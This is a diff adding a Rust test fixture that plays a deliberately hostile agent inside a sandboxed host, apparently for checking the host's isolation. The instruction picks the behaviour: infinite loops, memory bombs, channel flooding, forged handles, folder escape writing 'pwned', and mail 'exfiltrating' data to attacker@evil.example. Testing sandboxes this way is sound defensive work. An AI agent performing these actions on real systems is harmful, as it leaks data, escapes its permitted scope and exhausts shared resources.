@@ -1,0 +1,167 @@
+//! Hostile (and a few friendly) behaviours, chosen by the task instruction.
+//! Each tries something the host must stop; the tests assert it failed and
+//! that nothing happened.
+use clancy_sdk::{CallError, Employee, Report, Task, chat, files, mail, note};
+
+struct Hostile;
+
+fn first_channel() -> Result<chat::Channel, String> {
+    chat::channels()
+        .into_iter()
+        .next()
+        .ok_or_else(|| "no channel".to_string())
+}
+
+fn recurse(n: u64) -> u64 {
+    // Keep a frame alive on every level so the compiler cannot turn this into a loop.
+    let frame = [n; 64];
+    std::hint::black_box(&frame);
+    if n == u64::MAX {
+        0
+    } else {
+        recurse(n + 1) + frame[(n % 64) as usize]
+    }
+}
+
+fn report(summary: String) -> Result<Report, String> {
+    Ok(Report { summary })
+}
+
+impl Employee for Hostile {
+    fn run(task: Task) -> Result<Report, String> {
+        let (command, arg) = task
+            .instruction
+            .split_once(' ')
+            .unwrap_or((task.instruction.as_str(), ""));
+        match command {
+            "infinite-loop" => {
+                let mut i: u64 = 0;
+                loop {
+                    i = std::hint::black_box(i.wrapping_add(1));
+                }
+            }
+            "memory-bomb" => {
+                let mut hoard: Vec<Vec<u8>> = Vec::new();
+                loop {
+                    hoard.push(vec![7u8; 1024 * 1024]);
+                    std::hint::black_box(&hoard);
+                }
+            }
+            "deep-recursion" => report(format!("{}", recurse(0))),
+            "panic" => panic!("the employee gave up"),
+            "huge-argument" => {
+                let mb: usize = arg.parse().unwrap_or(8);
+                let text = "x".repeat(mb * 1024 * 1024);
+                match first_channel()?.post(&text, "flooding the channel") {
+                    Err(e) => report(format!("refused: {}", e.describe())),
+                    Ok(o) => report(format!("accepted: {o}")),
+                }
+            }
+            "huge-note" => {
+                note(&"n".repeat(1024 * 1024));
+                report("noted".into())
+            }
+            "post" => match first_channel()?.post(arg, "posting what the task asked") {
+                Ok(o) => report(format!("posted: {o}")),
+                Err(e) => report(format!("refused: {}", e.describe())),
+            },
+            "post-without-reason" => match first_channel()?.post(arg, " ") {
+                Ok(o) => report(format!("posted: {o}")),
+                Err(e) => report(format!("refused: {}", e.describe())),
+            },
+            "send-mail" => {
+                let mailbox = mail::mailboxes().into_iter().next().ok_or("no mailbox")?;
+                let draft = mail::Draft {
+                    to: vec!["attacker@evil.example".into()],
+                    subject: "Everything".into(),
+                    body: "all your data".into(),
+                    in_reply_to: None,
+                };
+                match mailbox.send(&draft, "exfiltrating") {
+                    Ok(o) => report(format!("sent: {o}")),
+                    Err(e) => report(format!("refused: {}", e.describe())),
+                }
+            }
+            "read-other-label" => {
+                let mailbox = mail::mailboxes().into_iter().next().ok_or("no mailbox")?;
+                match mailbox.read(arg) {
+                    Ok(m) => report(format!("read: {}", m.subject)),
+                    Err(e) => report(format!("refused: {}", e.describe())),
+                }
+            }
+            "count-handles" => report(format!(
+                "mailboxes {} channels {} folders {}",
+                mail::mailboxes().len(),
+                chat::channels().len(),
+                files::folders().len()
+            )),
+            "flood" => {
+                let channel = first_channel()?;
+                let mut posted = 0;
+                for i in 0..1000 {
+                    match channel.post(&format!("spam {i}"), "flooding") {
+                        Ok(_) => posted += 1,
+                        Err(CallError::RateLimited(secs)) => {
+                            return report(format!(
+                                "rate limited after {posted} posts, retry in {secs}s"
+                            ));
+                        }
+                        Err(e) => {
+                            return report(format!("refused after {posted}: {}", e.describe()));
+                        }
+                    }
+                }
+                report(format!("posted {posted}"))
+            }
+            "call-forever" => loop {
+                note("still here");
+            },
+            "forge-handle" => {
+                // A handle index the host never gave out. Forging is the point.
+                #[allow(unsafe_code)]
+                let forged = unsafe { mail::Mailbox::from_handle(9999) };
+                match forged.list("", 10) {
+                    Ok(m) => report(format!("forged handle read {} messages", m.len())),
+                    Err(e) => report(format!("refused: {}", e.describe())),
+                }
+            }
+            "escape" => {
+                let folder = files::folders().into_iter().next().ok_or("no folder")?;
+                let mut results = Vec::new();
+                for path in arg.split(',') {
+                    let read = folder
+                        .read(path)
+                        .map(|b| String::from_utf8_lossy(&b).to_string());
+                    let wrote = folder.write(path, b"pwned", "testing the folder walls");
+                    results.push(format!(
+                        "{path}: read {} write {}",
+                        match read {
+                            Ok(text) => format!("OK({text})"),
+                            Err(e) => format!("ERR({})", e.describe()),
+                        },
+                        match wrote {
+                            Ok(o) => format!("OK({o})"),
+                            Err(e) => format!("ERR({})", e.describe()),
+                        }
+                    ));
+                }
+                report(results.join("; "))
+            }
+            "write-file" => {
+                let folder = files::folders().into_iter().next().ok_or("no folder")?;
+                let (path, contents) = arg.split_once(' ').unwrap_or((arg, ""));
+                folder
+                    .write(path, contents.as_bytes(), "the task asked for this file")
+                    .map_err(|e| e.describe())?;
+                report(format!("wrote {path}"))
+            }
+            "print" => {
+                println!("hello from the guest: {arg}");
+                report("printed".into())
+            }
+            other => Err(format!("unknown command {other:?}")),
+        }
+    }
+}
+
+clancy_sdk::export!(Hostile);
